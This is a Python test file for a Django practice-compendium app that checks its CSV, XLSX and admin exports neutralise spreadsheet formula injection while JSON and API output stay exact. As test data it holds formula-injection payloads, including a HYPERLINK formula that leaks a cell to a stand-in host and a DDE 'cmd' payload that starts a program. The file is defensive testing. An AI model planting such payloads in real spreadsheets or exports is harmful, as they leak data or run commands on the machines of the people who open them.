"""Exports that a spreadsheet opens as text: no planted formula runs, JSON stays exact."""

import csv
import io
import json
import re

import openpyxl
import pytest

from compendium.models import Practice
from compendium.spreadsheets import neutralised, restored

from . import factories
from .test_resources import admin_import, format_index

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("http://x.invalid/?leak="&A1,"click me")',
    "summary": "=1+1",
    "description": "+1+1 and more",
    "activities": "-2+3",
    "results": "@SUM(1,1)",
    "lessons": "\t=1+1",
    "transferability": "\r=1+1",
}


@pytest.fixture
def planted():
    practice = factories.PracticeFactory(slug="planted-formulas", **FORMULAS)
    practice.themes.add(factories.ThemeFactory(name="=cmd|' /C calc'!A0"))
    return practice


def streamed(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("text", [*FORMULAS.values(), "=cmd|' /C calc'!A0"])
def test_a_text_that_starts_a_formula_gets_a_quote_and_comes_back_unchanged(text):
    assert neutralised(text) == f"'{text}"
    assert restored(neutralised(text)) == text


@pytest.mark.parametrize("value", ["Tres por Uno", "'quoted", "1-2", "", 2013, None])
def test_other_values_are_left_alone(value):
    assert neutralised(value) == value
    assert restored(value) == value


def test_public_csv_shows_every_planted_formula_as_text(client, planted):
    [row] = csv.DictReader(io.StringIO(streamed(client.get("/practices/export.csv"))))

    assert row["title"] == f"'{FORMULAS['title']}"
    assert row["summary"] == "'=1+1"
    assert row["description"] == "'+1+1 and more"
    assert row["themes"] == "'=cmd|' /C calc'!A0"
    assert row["start_year"] == ""
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_public_json_keeps_every_text_exactly(client, planted):
    [item] = json.loads(streamed(client.get("/practices/export.json")))

    assert item["title"] == FORMULAS["title"]
    assert item["summary"] == "=1+1"
    assert item["themes"] == ["=cmd|' /C calc'!A0"]


def test_api_keeps_every_text_exactly(client, planted):
    data = client.get("/api/v1/practices/planted-formulas/").json()

    assert data["title"] == FORMULAS["title"]
    assert data["summary"] == "=1+1"


def admin_export(client, label: str) -> bytes:
    page = client.get("/admin/compendium/practice/export/").content.decode()
    options = dict(
        (name.strip(), value)
        for value, name in re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', page)
    )
    columns = re.findall(r'name="(practiceresource_\w+)"', page)
    response = client.post(
        "/admin/compendium/practice/export/",
        {"format": options[label], "resource": "0", **dict.fromkeys(columns, "on")},
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_admin_csv_export_shows_every_planted_formula_as_text(admin_client, planted):
    [row] = csv.DictReader(io.StringIO(admin_export(admin_client, "csv").decode("utf-8-sig")))

    for field, text in FORMULAS.items():
        assert row[field] == f"'{text}"


def test_admin_xlsx_export_opens_with_every_planted_formula_as_text(admin_client, planted):
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(admin_client, "xlsx"))).active
    header, cells = list(sheet.iter_rows(max_row=2))
    by_column = {head.value: cell for head, cell in zip(header, cells, strict=True)}

    for field, text in FORMULAS.items():
        assert by_column[field].data_type == "s"  # a string, not "f" for formula
        # XML stores a carriage return as a line feed.
        assert by_column[field].value == f"'{text}".replace("\r", "\n")


def test_admin_offers_no_format_that_would_keep_formulas(admin_client):
    page = admin_client.get("/admin/compendium/practice/export/").content.decode()
    labels = {name.strip() for name in re.findall(r"<option value=\"\d+\"[^>]*>([^<]+)<", page)}

    assert labels == {"csv", "xlsx", "tsv", "json"}


def test_an_exported_csv_imports_back_with_its_texts_unchanged(admin_client, planted):
    exported = admin_export(admin_client, "csv")
    Practice.objects.filter(pk=planted.pk).update(summary="changed", lessons="changed")
    preview = admin_import(
        admin_client, exported, "practices.csv", format_index(admin_client, "csv")
    )
    confirm = admin_client.post(
        "/admin/compendium/practice/process_import/",
        {**preview.context["confirm_form"].initial, "resource": "0"},
    )

    assert confirm.status_code == 302
    planted.refresh_from_db()
    assert planted.summary == "=1+1"
    assert planted.lessons == FORMULAS["lessons"]
